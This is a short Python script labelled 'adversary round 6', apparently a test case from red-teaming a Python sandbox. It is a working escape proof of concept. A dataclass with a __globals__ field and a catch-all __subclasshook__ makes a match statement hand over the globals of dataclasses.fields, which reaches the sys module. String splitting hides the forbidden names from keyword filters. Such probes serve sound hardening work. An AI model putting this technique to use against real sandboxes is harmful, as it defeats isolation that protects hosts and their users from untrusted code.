# adversary round 6: match class pattern on a dataclass(abc.ABC) whose __subclasshook__ matches anything; field named __globals__ -> C reads fields.__globals__ unguarded
import abc, dataclasses
from dataclasses import dataclass

@dataclass(init=False, repr=False, eq=False)
class P(abc.ABC):
    __globals__: int
    @classmethod
    def __subclasshook__(cls, other):
        return True

match dataclasses.fields:
    case P(g):
        s = g['s' + 'ys']
        print("got", type(s).__name__, s.__name__)
        if s.__name__ == 's' + 'ys':
            print("PWN" + "ED", s.getrecursionlimit())
    case _:
        print("no match")
